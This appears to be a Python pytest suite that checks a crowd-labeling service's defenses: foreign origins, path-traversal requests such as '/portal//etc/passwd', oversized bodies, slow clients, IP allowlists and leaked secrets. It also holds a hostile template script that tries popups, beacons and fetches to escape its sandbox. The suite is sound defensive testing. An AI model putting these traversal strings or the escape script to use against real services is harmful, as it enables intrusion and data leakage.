"""What the service withstands: each attack has a test here, or is named with the test that tries it.

Hostile templates: test_service_portal.py and the last test here. Changed answers in the file: test_service_labeling.py.
"""

import contextlib
import http.client
import json
import logging
import os
import socket
import ssl
import subprocess
import threading
import time
import urllib.request
from collections.abc import Iterator
from typing import Any

import boto3
import botocore.exceptions
import pytest
from service import SHOWN, TEAM, create, inside, invite

from gandt.errors import InputError
from gandt.service.invitations import api_token
from gandt.service.serve import Door
from gandt.service.server import listen, make_server
from gandt.service.web import BODY_LIMIT, Attempts, PatientProtocol, RefusedError

FORM = "<crowd-form>{{ task.input.source }}<crowd-input name='word'></crowd-input></crowd-form>"


class Client:
    """Somebody who speaks HTTP and has a cookie."""

    def __init__(self, live: Any, name: str = "") -> None:
        self.port, self.cookie = int(live.address.rpartition(":")[2]), ""
        if name:
            status, _, headers = self.ask(
                "POST", "/portal-api/session", {"token": invite(live, name, TEAM).split("#")[1]}
            )
            assert status == 200
            self.cookie = headers["set-cookie"].partition(";")[0]

    def ask(self, method: str, path: str, content: Any = None, **headers: str) -> tuple[int, Any, Any]:
        connection = http.client.HTTPConnection("127.0.0.1", self.port, timeout=20)
        body = content if isinstance(content, (bytes, type(None))) else json.dumps(content).encode()
        given = {"X-Gandt": "portal", "Content-Type": "application/json", "Cookie": self.cookie}
        given.update({name.replace("_", "-"): value for name, value in headers.items()})
        connection.request(method, path, body, {name: value for name, value in given.items() if value})
        response = connection.getresponse()
        text = response.read()
        connection.close()
        with_json = response.headers.get_content_type().endswith("json")
        return response.status, json.loads(text) if with_json else text, response.headers


@contextlib.contextmanager
def served(live: Any, **options: Any) -> Iterator[int]:
    """Serve the same service on another port, with other options of make_server."""
    listener = listen(0)
    server = make_server(live.service, **options)
    thread = threading.Thread(target=server.run, kwargs={"sockets": [listener]}, daemon=True)
    thread.start()
    yield listener.getsockname()[1]
    server.should_exit = True
    thread.join()
    listener.close()


def a_lease(live: Any, client: Client) -> str:
    if live.store.job("words") is None:
        create(live, "words", FORM, [{"source": "a"}, {"source": "b"}], workers_per_object=1)
    return str(client.ask("POST", "/portal-api/jobs/words/next", {})[1]["task"]["lease"])


def test_another_sites_posts_are_refused(live) -> None:
    ann = Client(live, "Ann")
    lease = a_lease(live, ann)
    path, answer = f"/portal-api/leases/{lease}/answer", {"answer": {"word": "x"}}
    assert ann.ask("POST", path, answer, Origin="https://evil.example")[0] == 403
    assert ann.ask("POST", path, answer, Origin="null")[0] == 403  # a sandboxed frame
    assert ann.ask("POST", path, answer, X_Gandt="")[0] == 403  # a form can't send it
    assert ann.ask("GET", "/portal-api/jobs", Host="evil.example")[0] == 400  # a foreign name pointed here
    assert ann.ask("POST", "/", {}, X_Amz_Target="")[0] == 404
    assert not live.store.answers_after("words", 0)
    assert ann.ask("POST", path, answer, Origin=live.address)[0] == 200


def test_forged_replayed_and_other_peoples_tasks(live) -> None:
    ann, ben, nobody = Client(live, "Ann"), Client(live, "Ben"), Client(live)
    lease = a_lease(live, ann)
    answer = {"answer": {"word": "Ann's"}, "seconds": 1}
    for verb in ("answer", "draft", "decline", "again"):
        assert ben.ask("POST", f"/portal-api/leases/{lease}/{verb}", answer)[0] == 404
        assert ann.ask("POST", f"/portal-api/leases/{'A' * 24}/{verb}", answer)[0] == 404
        assert nobody.ask("POST", f"/portal-api/leases/{lease}/{verb}", answer)[0] == 401
    assert ben.ask("GET", f"/task/{lease}")[0] == 404
    assert nobody.ask("GET", f"/task/{lease}")[0] == 401
    assert ben.ask("POST", "/portal-api/jobs/no-such-job/next", {})[1]["task"] is None
    assert ann.ask("POST", f"/portal-api/leases/{lease}/answer", answer)[0] == 200
    assert ann.ask("POST", f"/portal-api/leases/{lease}/answer", {"answer": {"word": "again"}})[0] == 200
    assert ann.ask("POST", f"/portal-api/leases/{lease}/answer", {"answer": {"word": "later"}, "revision": 5})[0] in (
        410,
    )
    assert [each.content for each in live.store.answers_after("words", 0)] == [{"word": "Ann's"}]


def test_another_workteams_job_is_nobody_elses(live) -> None:
    a_lease(live, Client(live, "Ann"))
    live.store.put_workteam({"WorkteamName": "others"}, 0)
    stranger = live.store.add_worker("Eve", "others")
    assert live.service.next(stranger, "words") is None
    assert live.store.reserve("words", stranger, time.time()) is None
    assert live.store.left("words", stranger, time.time()) == 0


@pytest.mark.parametrize(
    "path",
    [
        "/portal/../store.py",
        "/portal/..%2f..%2fstore.py",
        "/portal/%2e%2e/%2e%2e/server.py",
        "/portal//etc/passwd",
        "/portal/owner.html",
        "/object/../x",
        "/object/e30.e30/x",
        "/task/..%2f..%2fowner",
    ],
)
def test_paths_lead_nowhere(live, path: str) -> None:
    status, text, _ = Client(live, "Ann").ask("GET", path)
    assert status in (403, 404)
    assert b"import" not in (text if isinstance(text, bytes) else json.dumps(text).encode())


def test_large_bodies_are_refused(live) -> None:
    ann, nobody = Client(live, "Ann"), Client(live)
    lease = a_lease(live, ann)
    large = b'{"answer": {"x": "' + b"x" * BODY_LIMIT + b'"}}'
    assert ann.ask("POST", f"/portal-api/leases/{lease}/answer", large)[0] == 413
    assert nobody.ask("POST", f"/portal-api/leases/{lease}/answer", large[:200_000])[0] == 401  # isn't read at all
    for target in ("SageMaker.CreateLabelingJob", "SageMaker.ListWorkteams"):
        assert nobody.ask("POST", "/", large, X_Amz_Target=target)[0] == 413
    deep = b'{"answer": ' + b'{"a":' * 20_000 + b"1" + b"}" * 20_001
    assert ann.ask("POST", f"/portal-api/leases/{lease}/answer", deep)[0] == 400


def test_clients_that_never_end_are_cut_off(live, monkeypatch) -> None:
    """One that drips headers, one that says nothing, one whose body stops: none is waited for without end."""
    monkeypatch.setattr(PatientProtocol, "HEAD_SECONDS", 0.4)
    monkeypatch.setattr(PatientProtocol, "LOOK_SECONDS", 0.1)
    monkeypatch.setattr("gandt.service.web.BODY_SECONDS", 0.4)
    port = int(live.address.rpartition(":")[2])
    head = b"POST /portal-api/session HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Gandt: portal\r\nContent-Length: 50\r\n"
    for sent, answer in ((b"GET / HTTP/1.1\r\nHost: 1", b""), (b"", b""), (head + b'\r\n{"token"', b"408")):
        with socket.create_connection(("127.0.0.1", port), timeout=120) as slow:
            slow.sendall(sent)
            heard = b""
            try:
                while part := slow.recv(1000):
                    heard += part
            except ConnectionResetError:
                pass
            assert answer in heard


def test_nobody_works_from_outside_the_workforces_addresses(live) -> None:
    points = [f"{name}Endpoint" for name in ("Authorization", "Token", "UserInfo", "Logout")]
    oidc = dict.fromkeys(["Issuer", "JwksUri", *points], "https://a.example")
    ann, link = Client(live, "Ann"), invite(live, "Ann", TEAM).partition("#")[2]
    lease = a_lease(live, ann)

    def seen(address: str) -> list[int]:
        """As a proxy on this machine would tell it."""
        given = {"X_Forwarded_For": address}
        asked = [("POST", "session", {"token": link}), ("GET", "jobs", None), ("POST", f"leases/{lease}/draft", {})]
        statuses = [ann.ask(method, f"/portal-api/{path}", content, **given)[0] for method, path, content in asked]
        return [*statuses, ann.ask("GET", f"/task/{lease}", **given)[0]]

    ranges = {"Cidrs": ["10.1.0.0/16", "192.0.2.7/32"]}
    live.sagemaker.create_workforce(
        WorkforceName="people", SourceIpConfig=ranges, OidcConfig={"ClientId": "c", "ClientSecret": "s", **oidc}
    )
    try:
        assert seen("10.1.200.3") == seen("::ffff:192.0.2.7") == [200, 200, 400, 200]  # 400: an empty draft
        assert seen("10.2.0.1") == seen("nonsense") == seen("") == [403] * 4
        live.sagemaker.update_workforce(WorkforceName="people", SourceIpConfig={"Cidrs": []})
        assert seen("10.2.0.1") == [200, 200, 400, 200]
        with pytest.raises(botocore.exceptions.ClientError, match="ValidationException"):
            live.sagemaker.update_workforce(WorkforceName="people", SourceIpConfig={"Cidrs": ["10.0.0.0/77"]})
    finally:
        live.store.delete_record("workforce", "people")


def test_codes_cant_be_guessed() -> None:
    now = [0.0]
    attempts = Attempts(most=3, clock=lambda: now[0])
    for _ in range(3):
        attempts.check()
        attempts.failed()
        now[0] += 10
    with pytest.raises(RefusedError, match="wait a minute"):
        attempts.check()
    now[0] = 61
    attempts.check()


def test_a_code_is_refused_politely(live) -> None:
    anybody = Client(live)
    assert anybody.ask("POST", "/portal-api/session", {"code": "ABCD-EFGH-JKMN", "name": "Eve"})[0] == 401
    code = live.store.issue_code(TEAM, time.time() + 60)
    for name in ("", "x" * 61, "a\x00b"):
        assert anybody.ask("POST", "/portal-api/session", {"code": code, "name": name})[0] == 400
    live.store.add_worker("Ann", TEAM)
    assert anybody.ask("POST", "/portal-api/session", {"code": code, "name": "Ann"})[0] == 409  # nobody becomes another
    assert anybody.ask("POST", "/portal-api/session", {"code": code, "name": "Eve"})[0] == 200
    late = live.store.issue_code(TEAM, time.time() - 1)
    assert anybody.ask("POST", "/portal-api/session", {"code": late, "name": "Late"})[0] == 401


def test_who_isnt_the_owner_sees_nothing_of_his(live) -> None:
    ann = Client(live, "Ann")
    a_lease(live, ann)
    for path in ("jobs", "jobs/words", "jobs/words/history", "functions"):
        assert ann.ask("GET", f"/owner-api/{path}")[0] == 401
    assert ann.ask("POST", "/owner-api/jobs/words/gold", {"rows": []})[0] == 401
    session = ann.cookie.partition("=")[2]
    assert Client.ask(ann, "GET", "/owner-api/jobs", Cookie=f"gandt_owner={session}")[0] == 401  # a worker's token
    assert ann.ask("POST", "/owner-api/session", {"token": session})[0] == 401


def test_beyond_this_machine_the_api_asks_for_a_token(live) -> None:
    """The token is what AWS clients call the access key id."""
    with pytest.raises(InputError, match="--address"):
        Door(host="0.0.0.0")
    with pytest.raises(InputError, match="isn't https"):
        Door(address="label.example.org")
    assert Door(host="10.0.0.1").readable
    assert not Door(host="10.0.0.1", address="https://label.example.org").readable

    def client(key: str) -> Any:
        options = {"aws_access_key_id": key, "aws_secret_access_key": "anything"}
        return boto3.client("sagemaker", endpoint_url=f"http://127.0.0.1:{port}", region_name="us-east-1", **options)

    with served(live, tokens=True) as port:
        assert client(api_token(str(live.state))).list_workteams()["Workteams"]
        worker = live.store.add_worker("Ann", TEAM)
        for key in ("testing", "A" * 32, live.store.issue(worker, "session", time.time() + 60)):
            with pytest.raises(botocore.exceptions.ClientError, match="UnrecognizedClientException"):
                client(key).list_workteams()


def test_tls(live, tmp_path) -> None:
    cert, key = tmp_path / "cert.pem", tmp_path / "key.pem"
    command = ["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:prime256v1", "-nodes"]
    command += ["-keyout", str(key), "-out", str(cert), "-days", "2", "-subj", "/CN=localhost"]
    subprocess.run(command, check=True, capture_output=True)
    with pytest.raises(InputError, match="can't be used"):
        make_server(live.service, certificate=(str(key), str(key)))
    trusting = ssl.create_default_context(cafile=str(cert))
    trusting.check_hostname = False
    with served(live, certificate=(str(cert), str(key))) as port:
        token = invite(live, "Ann", TEAM).partition("#")[2].encode()
        headers = {"X-Gandt": "portal", "Content-Type": "application/json"}
        asked = urllib.request.Request(
            f"https://127.0.0.1:{port}/portal-api/session", b'{"token": "' + token + b'"}', headers
        )
        with urllib.request.urlopen(asked, timeout=10, context=trusting) as page:
            assert "; secure" in page.headers["set-cookie"].lower()


def test_beyond_this_machine_without_tls_there_is_a_warning(monkeypatch, capfd) -> None:
    from gandt.cli import serve

    doors: list[Door] = []

    def serving(state: str, *, door: Door, **_: Any) -> Any:
        doors.append(door)
        raise InputError("enough")

    monkeypatch.setattr("gandt.service.serve.serving", serving)
    certificate = {"tls_cert": "a", "tls_key": "b"}
    for host, more, warned in (("127.0.0.1", {}, False), ("192.0.2.1", {}, True), ("192.0.2.1", certificate, False)):
        with pytest.raises(InputError, match="enough"):
            serve.serve(host=host, port=0, **more)
        assert ("warning: without TLS" in capfd.readouterr().err) == warned
    assert [door.certificate for door in doors] == [None, None, ("a", "b")]
    with pytest.raises(InputError, match="need each other"):
        serve.serve(tls_cert="a")


def test_no_secret_is_in_a_log(live, caplog, capfd) -> None:
    with caplog.at_level(logging.DEBUG, logger="uvicorn"), caplog.at_level(logging.DEBUG, logger="gandt"):
        link = invite(live, "Ann", TEAM)
        ann = Client(live, "Ann")
        lease = a_lease(live, ann)
        code = live.store.issue_code(TEAM, time.time() + 60)
        ann.ask("POST", "/portal-api/session", {"code": code, "name": "Ben"})
        ann.ask("POST", f"/portal-api/leases/{lease}/answer", b"{")
        ann.ask("GET", "/object/forged/x")
    out, err = capfd.readouterr()
    told = caplog.text + out + err
    for secret in (link.partition("#")[2], ann.cookie.partition("=")[2], lease, code, code.replace("-", "")):
        assert secret not in told
    assert all(secret.encode() not in path.read_bytes() for path in live.state.iterdir() for secret in (
        link.partition("#")[2], ann.cookie.partition("=")[2], code.replace("-", "")))  # fmt: skip


def test_a_sync_is_behind_every_acknowledgement(live, monkeypatch) -> None:
    """An answer that is said to be kept was on the disk before: many may share a sync, none goes without."""
    create(live, "words", FORM, [{"source": str(n)} for n in range(8)], workers_per_object=1)
    synced: list[int] = []
    sync = os.fdatasync
    monkeypatch.setattr(os, "fdatasync", lambda file: (synced.append(live.store._commits), sync(file))[1])
    worker = live.store.add_worker("Ann", TEAM)
    for _ in range(4):
        lease = live.service.next(worker, "words")
        before = live.store._commits
        assert live.service.submit(lease.id, worker, {}, 1) == "kept"
        assert synced[-1] > before


ATTACKS = """<script src="https://assets.crowd.aws/crowd-html-elements.js"></script><script>
const there = "http://127.0.0.1:PORT/";
const told = window.told = {};
const attempt = (name, what) => {
  try { told[name] = String(what() ?? "nothing"); } catch (error) { told[name] = "barred"; }
};
attempt("top", () => { top.location = `${there}top`; return "went"; });
attempt("popup", () => window.open(`${there}popup`));
attempt("siblings", () => parent.frames[1].document.title);
attempt("worker", () => new Worker("/crowd-html-elements.js"));
attempt("beacon", () => navigator.sendBeacon(`${there}beacon`, "leak"));
attempt("socket", () => { new WebSocket(there.replace("http", "ws")); return "asked"; });
for (const [tag, values] of [["img", { src: `${there}img` }], ["iframe", { src: "/owner" }],
    ["link", { rel: "prefetch", href: `${there}prefetch` }], ["link", { rel: "stylesheet", href: `${there}css` }],
    ["object", { data: `${there}object` }], ["script", { src: `${there}script` }], ["video", { src: `${there}video` }]])
  document.head.append(Object.assign(document.createElement(tag), values));
const reached = (path) => fetch(path).then((answer) => answer.status, () => "barred");
window.done = Promise.all(["/object/e30.e30/x", "/owner-api/jobs", "/portal-api/jobs", `${there}fetch`].map(reached))
  .then((all) => { told.fetched = all.join(); });
</script><crowd-form><crowd-input name="word" label="Word"></crowd-input></crowd-form>"""


def test_a_hostile_template_sends_nothing_anywhere(live, enter) -> None:
    with socket.create_server(("127.0.0.1", 0)) as elsewhere:
        elsewhere.settimeout(0.5)
        port = elsewhere.getsockname()[1]
        create(
            live,
            "hostile",
            ATTACKS.replace("PORT", str(port)),
            [{"source": "a"}, {"source": "b"}],
            workers_per_object=1,
        )
        page = enter("Ann")
        page.get_by_role("button", name="Start").click()
        inner = inside(page)
        inner.evaluate("window.done")
        page.wait_for_timeout(500)
        told = inner.evaluate("window.told")
        assert told["top"] == told["siblings"] == "barred"
        assert told["popup"] in ("nothing", "null", "barred")
        assert told["fetched"] in (
            "403,barred,barred,barred",
            "barred,barred,barred,barred",
        )  # a forged grant, and what isn't granted
        assert page.url == live.address + "/#hostile"
        assert len(page.context.pages) == 1
        assert page.locator(SHOWN).count() == 1
        inner.evaluate(f"""() => {{ const form = document.createElement("form");
            form.action = "http://127.0.0.1:{port}/form"; document.body.append(form); form.submit(); }}""")
        page.wait_for_timeout(200)
        with contextlib.suppress(TimeoutError):
            while True:
                connection, _ = elsewhere.accept()  # a browser may connect before it looks at the policy,
                with connection, contextlib.suppress(TimeoutError):
                    connection.settimeout(0.3)
                    assert connection.recv(1000) == b""  # and then say nothing


def test_a_connection_may_be_kept(live) -> None:
    """Keeping it open between two requests, as browsers do, is no attack."""
    connection = http.client.HTTPConnection("127.0.0.1", int(live.address.rpartition(":")[2]), timeout=20)
    for _ in range(2):
        connection.request("GET", "/portal/portal.css")
        response = connection.getresponse()
        assert (response.status, bool(response.read())) == (200, True)
        own = connection.sock.getsockname()
        time.sleep(0.3)
    assert connection.sock.getsockname() == own
    connection.close()
